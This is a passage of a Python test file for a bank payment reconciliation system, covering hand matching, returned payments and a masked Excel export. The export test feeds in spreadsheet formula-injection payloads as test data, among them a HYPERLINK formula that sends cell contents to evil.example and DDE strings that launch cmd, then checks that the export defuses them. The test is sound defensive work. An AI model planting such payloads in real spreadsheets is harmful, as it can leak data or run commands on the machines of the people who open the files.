        match_by_hand(w.app, payment_ids=[by_hand], line_ids=[lines[by_hand]],
                      actor="liu.treasurer", note="   ")
    funded_line = next(e.statement_line_id for e in w.exceptions("written_off")
                       if e.id in day_one.written_off and e.account == ICBC_DEBTOR_2)
    before = w.counts()
    for pays, lns in (([lost], [lines[by_hand]]), ([by_hand], [funded_line])):
        with pytest.raises(InvalidValue, match="written off"):
            match_by_hand(w.app, payment_ids=pays, line_ids=lns, actor="liu.treasurer",
                          note="found it")
    assert w.counts() == before
    note = "the bank booked it under the reference before the ERP fix"
    hand_id = match_by_hand(w.app, payment_ids=[by_hand], line_ids=[lines[by_hand]],
                            actor="liu.treasurer", note=note)
    assert w.states([by_hand]) == {by_hand: "RECONCILED"}
    assert {e.status for e in w.exceptions() if e.payment_id == by_hand
            or e.statement_line_id == lines[by_hand]} == {"matched"}
    [event] = w.events("reconcile.matched_by_hand", hand_id)
    assert event.details["note"] == note and event.actor == "liu.treasurer"
    moved = [e for e in w.events("payment.state", by_hand) if e.details["to"] == "RECONCILED"]
    assert moved and moved[-1].actor == "liu.treasurer" and note in moved[-1].details["reason"]
    before = w.counts()
    for pays, lns in (([by_hand], [lines[by_hand]]), ([to_confirm], [lines[to_confirm]])):
        with pytest.raises(InvalidValue, match="already matched"):
            match_by_hand(w.app, payment_ids=pays, line_ids=lns, actor="liu.treasurer",
                          note="again")
    assert w.counts() == before

    # Run again later: nothing of ours comes back into the queue.
    before = w.counts()
    assert reconcile(w.app, first=day, last=day, now=late + timedelta(days=9)
                     ).new_exceptions == 0
    assert w.counts() == before
    assert not {e.payment_id for e in w.exceptions("open")} & ours
    w.assert_audit_intact()


# --- 6. returns (退票) ---------------------------------------------------------------------------


def test_a_payment_returned_days_later_is_reported_returned(w: World) -> None:
    spec = tomllib.loads(SANDBOX_DEFAULT.read_text(encoding="utf-8"))["faults"]
    after = int(spec["return_after_days"])
    day = w.open_day()
    before = Counter(w.control("GET", "ledger")["faults_injected"])
    # The bank decides at settlement whether a payment to another bank comes back; payments
    # between its own customers never do.
    w.faults(return_rate=1.0, return_after_days=after)
    try:
        away, home = w.pay([Line(ICBC_DEBTOR, ELSEWHERE, "888.88"),
                            Line(ICBC_DEBTOR, AT_ICBC, "889.99")], day)
    finally:
        w.faults()
    assert w.states([away, home]) == {away: "RECEIPTED", home: "RECEIPTED"}
    assert Counter(w.control("GET", "ledger")["faults_injected"])["return"] > before["return"]

    assert w.close_day() == day
    first = reconcile(w.app, first=day, last=day)
    assert w.states([away, home]) == {away: "RECONCILED", home: "RECONCILED"}
    assert first.returned == 0

    # The money comes back on the bank's `after`-th business day after the payment.
    days = [w.close_day() for _ in range(after)]
    summary = reconcile(w.app, first=days[0], last=days[-1])
    assert w.states([away, home]) == {away: "RETURNED", home: "RECONCILED"}
    assert summary.returned == 1 and summary.matches.get("return") == 1
    p = w.payment(away)
    with w.app.sessions() as s:
        rules = s.execute(select(ReconMatch.rule, ReconMatchItem.statement_line_id)
                          .join(ReconMatchItem, ReconMatchItem.match_id == ReconMatch.id)
                          .where(ReconMatchItem.payment_id == away)).all()
        credit = s.execute(select(LineRow).join(StatementRow,
                                                StatementRow.id == LineRow.statement_pk)
                           .where(LineRow.end_to_end_id == p.end_to_end_id,
                                  LineRow.amount_minor > 0)).scalars().one()
    assert sorted(r for r, _ in rules) == ["amount_plus_fee", "return"] or \
        sorted(r for r, _ in rules) == ["exact_reference", "return"], rules
    assert credit.booking_date == days[-1] and credit.amount_minor == p.amount_minor
    assert w.matched(line=credit.id) == 1
    [alert] = [a for a in w.alerts("payment.returned") if away in a.details["payment_ids"]]
    assert alert.severity == "critical" and "退票" in alert.subject
    moved = [e for e in w.events("payment.state", away) if e.details["to"] == "RETURNED"]
    assert len(moved) == 1 and "退票" in moved[0].details["reason"]
    [row] = daily_report(w.app, days[-1], [ICBC_DEBTOR])
    assert row.unmatched_lines == 0 and row.difference == "0.00", row
    # Reconciling those days again returns nothing twice.
    assert reconcile(w.app, first=days[0], last=days[-1]).returned == 0
    if len(days) > 1:
        with pytest.raises(InvalidValue, match="is after the last day"):
            reconcile(w.app, first=days[-1], last=days[0])
    assert len([a for a in w.alerts("payment.returned") if away in a.details["payment_ids"]]) \
        == 1
    w.assert_audit_intact()


# --- 7. the workbook ---------------------------------------------------------------------------


def test_the_workbook_holds_no_formula_and_no_full_account_number(
        w: World, day_one: DayOne, tmp_path: Path) -> None:
    from openpyxl import load_workbook

    day = day_one.day
    nasty = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0",
             "@SUM(1+1)*cmd|' /C calc'!A0", "=1+1"]
    file = tmp_path / "nasty.xml"
    sid = f"X-{uuid.uuid4().hex[:10].upper()}"
    file.write_bytes(camt053(OUTSIDE_2, sid, 1, day, "5000.00", [
        Entry("-10.00", "=2+3", nasty[0], "6222021234567890", "=1+1"),
        Entry("20.00", None, nasty[1], "6222029876543210"),
        Entry("-30.00", None, nasty[2], None, "@SUM(A1:A9)"),
        Entry("40.00", None, nasty[3], None)]))
    got = import_statement_file(w.app, file)
    assert len(got.accepted) == 1, got.quarantined
    reconcile(w.app, first=day, last=day)
    queued = [e for e in list_exceptions(w.app) if e["account"] == OUTSIDE_2
              and e["day"] == day]
    assert {e["counterparty"] for e in queued} >= set(nasty)

    rows = daily_report(w.app, day_one.day)
    path = export_xlsx(w.app, rows, tmp_path / "reconciliation.xlsx")
    book = load_workbook(path)            # formulas as written, not computed values
    assert set(book.sheetnames) == {"reconciliation", "exceptions"}
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
                    assert not cell.value.startswith(("=", "+", "@")), cell.value
    for name in nasty:
        assert "'" + name in texts, name
    everything = "\n".join(texts)
    full = {a.number for a in w.app.config.accounts} | {OUTSIDE_2}
    assert not [n for n in full if n in everything]
    report = book["reconciliation"]
    header = [c.value for c in report[1]]
    accounts = [r[header.index("account")] for r in report.iter_rows(min_row=2,
                                                                       values_only=True)]
    assert sorted(accounts) == sorted(f"****{n[-4:]}" for n in full - {OUTSIDE_2})
    sheet = book["exceptions"]
    header = [c.value for c in sheet[1]]
    masked = {r[header.index("account")] for r in sheet.iter_rows(min_row=2, values_only=True)}
    assert masked and all(MASKED.match(str(m)) for m in masked)
    assert f"****{OUTSIDE_2[-4:]}" in masked


def test_a_day_with_statement_lines_and_no_payments_reconciles(w: World, tmp_path: Path) -> None:
    # What the scheduled run of the USD account (no payments, bank charges and interest on
    # its statements) meets every day.
    day = date(2021, 6, 7)
    file = tmp_path / "lines-only.xml"
    file.write_bytes(camt053(OUTSIDE_3, f"L-{uuid.uuid4().hex[:10].upper()}", 1, day, "10.00",
                             [Entry("-1.50", None, None, None, "手续费 account fee")]))
    assert len(import_statement_file(w.app, file).accepted) == 1
    summary = reconcile(w.app, first=day, last=day, accounts=[OUTSIDE_3])
    assert (summary.payments, summary.lines, summary.unmatched_lines,
            summary.new_exceptions) == (0, 1, 1, 1)
    # And a day with nothing at all (a Sunday): nothing to do, no error.
    sunday = reconcile(w.app, first=date(2021, 6, 6), last=date(2021, 6, 6),
                       accounts=[OUTSIDE_3])
    assert (sunday.payments, sunday.lines, sunday.new_exceptions) == (0, 0, 0)
